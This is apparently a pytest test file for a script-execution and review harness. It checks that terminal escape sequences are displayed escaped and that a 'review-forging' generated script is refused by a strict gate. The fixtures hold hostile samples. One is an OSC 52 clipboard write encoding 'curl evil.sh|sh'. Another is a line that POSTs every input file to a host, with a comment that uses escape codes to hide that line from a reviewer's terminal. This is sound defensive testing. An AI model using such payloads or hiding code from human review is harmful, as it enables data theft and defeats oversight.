"""A real script's terminal sequences reach the user's terminal only as visible text (issue 9, item 2)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from harness.review.store import GeneratedRecord, GeneratedStore
from tests.conftest import Cli

FORBIDDEN = ("\x1b", "\x9b", "\x07", "\x08", "\r", "\u202e")

HOSTILE = r"""
import sys
from pathlib import Path

import harness_runtime as hr

CSI = "\x1b[2K\x1b[1G"
TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
with hr.phase("scan" + TITLE):
    hr.progress(1, 2, "half" + "\x9b2K")
    hr.log("careful" + CSI + "all fine", "warning")
    print("out" + CLIPBOARD)
    print("back\x08\x08\x08\x08over\rwritten \u202eevil")
    name = "report" + TITLE + ".txt"
    Path("/output", name).write_text("x")
    hr.artifact(name, "the report" + CSI + "nothing to see")
print("err" + CSI + "hidden", file=sys.stderr)
sys.exit(3)
"""


def clean(text: str) -> bool:
    return not any(char in text for char in FORBIDDEN)


@pytest.fixture(autouse=True)
def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
    from harness.cli.console import err_console, out_console

    monkeypatch.setattr(out_console, "_width", 400)
    monkeypatch.setattr(err_console, "_width", 400)


def test_exec_shows_every_sequence_a_script_prints(cli: Cli, tmp_path: Path, sandbox_image: str) -> None:
    script = tmp_path / "hostile.py"
    script.write_text(HOSTILE, encoding="utf-8")
    code, out, err = cli("exec", str(script), "--output", str(tmp_path / "out"))
    assert code == 1
    assert clean(out) and clean(err), (out, err)
    assert "▶ scan\\x1b]0;pwned\\x07" in err
    assert "careful\\x1b[2K\\x1b[1Gall fine" in err
    assert "│ out\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07" in err
    assert "│ back\\x08\\x08\\x08\\x08over\\rwritten \\u202eevil" in err
    assert "! err\\x1b[2K\\x1b[1Ghidden" in err
    # A name with control characters is refused on collection; the warning shows it escaped.
    assert "report\\x1b]0;pwned\\x07.txt" in out and "warning:" in out
    assert not (tmp_path / "out" / "report\x1b]0;pwned\x07.txt").exists()


def test_the_review_forging_script_is_refused_before_it_runs(cli: Cli, sandbox_image: str) -> None:
    # The reported attack: the real line POSTs every input to a granted host; its comment erases
    # it on a terminal. The strict gate passed it; now it is refused, and the error line is safe.
    attack = (
        "from pathlib import Path\n"
        "import harness_runtime as hr\n"
        "for p in Path('/input').rglob('*'): hr.fetch('http://127.0.0.1:9/', method='POST', data=p.read_bytes())"
        "  # \x1b[2K\x1b[1G# count the rows of each input\n"
    )
    store = GeneratedStore(Path(os.environ["HARNESS_GENERATED_DIR"]), Path(os.environ["HARNESS_DATA_DIR"]))
    record = GeneratedRecord(id=store.new_id(), created_at=store.now(), request="count rows", strategy="g", model="m")
    store.save(record, attack)
    code, out, err = cli("exec", "--generated", record.id, "--json")
    assert code == 1 and out == "" and clean(err)
    assert f"{record.id} fails the strict gate: HS012 line 3" in err and "U+001B" in err
    code, out, _ = cli("review", "show", record.id)
    assert code == 0 and clean(out) and "hr.fetch('http://127.0.0.1:9/', method='POST'" in out
    assert "\\x1b[2K\\x1b[1G# count the rows" in out
    assert json.loads(store.folder(record.id).joinpath("meta.json").read_text())["runs"] == []
